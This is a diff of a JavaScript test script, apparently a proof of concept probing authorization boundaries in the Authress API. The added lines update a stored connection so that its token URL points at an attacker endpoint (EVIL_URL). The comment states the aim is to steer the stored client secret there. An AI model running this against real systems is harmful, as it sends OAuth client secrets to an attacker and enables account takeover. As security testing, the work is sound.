@@ -7,7 +7,7 @@ async function outcome(call) {
 }
 
 async function main() {
-  const { VAULT_URL, WRITER_KEY, WRITER_ID, RECORD_ID, ID_TOKEN, ACCESS_TOKEN, USER_ID, CONNECTION_ID } = process.env;
+  const { VAULT_URL, WRITER_KEY, WRITER_ID, RECORD_ID, ID_TOKEN, ACCESS_TOKEN, USER_ID, CONNECTION_ID, EVIL_URL } = process.env;
   const writer = new AuthressClient({ authressApiUrl: VAULT_URL }, new ServiceClientTokenProvider(WRITER_KEY, VAULT_URL));
   const admin = {
     name: 'mine', users: [{ userId: WRITER_ID }],
@@ -23,6 +23,10 @@ async function main() {
     accessTokenReads: await outcome(new AuthressClient({ authressApiUrl: VAULT_URL }, () => ACCESS_TOKEN)
       .connections.getConnectionCredentials(CONNECTION_ID))
   };
+  // Steering the stored client secret: the connection put back with another token endpoint and no secret.
+  const connection = (await writer.connections.getConnection(CONNECTION_ID)).data;
+  results.steerTokenUrl = await outcome(writer.connections.updateConnection(CONNECTION_ID,
+    { ...connection, tokenUrl: `${EVIL_URL}/token` }));
   console.log(JSON.stringify(results));
 }
 
